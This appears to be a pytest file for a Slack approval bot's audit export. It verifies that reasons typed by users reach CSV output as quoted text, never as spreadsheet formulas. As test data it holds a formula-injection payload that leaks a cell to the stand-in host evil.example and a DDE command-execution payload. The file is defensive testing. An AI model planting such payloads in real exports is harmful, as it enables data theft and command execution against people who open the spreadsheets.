"""The compliance export (`python -m bot audit`): nothing people typed reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.approve import messages as text
from bot.audit.export import FORMULA_STARTS, spreadsheet_cell
from tests.test_approvals import APPROVER, approval_policy, click, people, request_admin

__all__ = ["people"]  # a fixture

ROOT = Path(__file__).resolve().parents[1]

# A Reason that, opened in a spreadsheet, would send the next cell to someone else and look approved.
LEAKING_REASON = '=HYPERLINK("https://evil.example/?leak="&A2,"Approved by CISO")'
DENY_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("plain reason", "plain reason"),
        (" =1", " =1"),  # a leading space is text already
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-42, "'-42"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_quoted(value, cell):
    assert spreadsheet_cell(value) == cell


def test_every_formula_start_is_neutralised():
    for start in FORMULA_STARTS:
        assert spreadsheet_cell(f"{start}x").startswith("'")


def _export(bot, output_format: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "bot", "audit", "--since", "2000-01-01", "--format", output_format],
        cwd=ROOT,
        env={**os.environ, "DATABASE_URL": bot.runtime.settings.database_url},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return result.stdout


def test_reasons_typed_in_slack_reach_the_csv_as_text_and_the_json_unchanged(bots, people):
    bot = bots.start(policy=approval_policy(), slack_cache_seconds=0)
    request_id = request_admin(bot, reason=LEAKING_REASON)
    click(bot, APPROVER, text.ACTION_DENY, request_id)
    modal = bot.slack.wait_for(
        lambda c: c.method == "views.open" and c.args["view"]["callback_id"] == text.DENY_CALLBACK_ID
    )[0]
    bot.sender.view_submission(
        modal.response["view"], user_id=APPROVER, values={text.DENY_REASON_BLOCK: DENY_REASON}
    )
    bot.slack.wait_for(
        lambda c: c.method == "chat.postMessage" and DENY_REASON in json.dumps(c.args, ensure_ascii=False)
    )
    bot.wait_idle()

    rows = list(csv.DictReader(io.StringIO(_export(bot, "csv"))))
    cells = [cell for row in rows for cell in row.values()]
    assert f"'{LEAKING_REASON}" in cells and f"'{DENY_REASON}" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []

    exported = json.loads(_export(bot, "json"))
    details = [row["detail"] for row in exported]
    assert LEAKING_REASON in details and DENY_REASON in details
    assert exported == bot.store.audit_trail()
